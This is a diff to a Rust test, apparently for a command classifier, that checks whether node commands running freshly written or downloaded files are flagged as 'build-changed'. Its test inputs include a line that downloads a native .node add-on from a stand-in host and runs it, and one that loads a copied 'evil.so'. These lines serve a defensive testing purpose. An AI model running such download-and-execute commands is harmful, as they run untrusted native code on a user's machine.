@@ -1542,6 +1542,20 @@ fn node_runs_nothing_only_when_it_finds_no_other_file() {
     );
     // `node x.mjs` runs x.mjs.js when x.mjs is not there; a directory of that name runs
     // its index.
+    // What it would try is seen when another part of the command writes it: a `.node`
+    // add-on (native code), a `.js` beside it, an index in a directory of that name.
+    for cmd in [
+        "curl -sL https://x.example/a.node -o gone.node; node gone",
+        "cp /tmp/evil.so m.node && node ./m",
+        "printf x > m.js; node m",
+        "mkdir -p m && printf x > m/index.js && node m",
+    ] {
+        assert_eq!(
+            short(&judged(&f, cmd, &clean).verdict),
+            "build-changed",
+            "{cmd}"
+        );
+    }
     std::fs::write(f.ws.join("tools/x.mjs.js"), "require('child_process')").unwrap();
     std::fs::create_dir_all(f.ws.join("tools/y")).unwrap();
     for cmd in ["node tools/x.mjs", "node tools/x", "node tools/y"] {
